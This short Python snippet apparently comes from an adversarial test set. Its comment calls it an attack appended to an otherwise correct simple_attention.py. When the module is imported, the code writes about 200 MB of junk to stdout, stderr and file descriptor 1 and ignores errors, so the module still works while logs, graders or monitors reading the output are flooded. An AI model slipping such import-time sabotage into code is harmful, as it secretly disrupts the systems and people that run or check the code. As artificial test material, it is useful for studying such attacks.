# Attack (appended to a correct simple_attention.py): print 200 MB at import, through print()
# and straight to the file descriptors, ignoring every error; the module still works afterwards.
import os
import sys

_chunk = "flood " * (1 << 17)  # 768 KiB
for _ in range(260):
    for write in (lambda: print(_chunk), lambda: sys.stderr.write(_chunk), lambda: os.write(1, _chunk.encode())):
        try:
            write()
        except OSError:
            pass
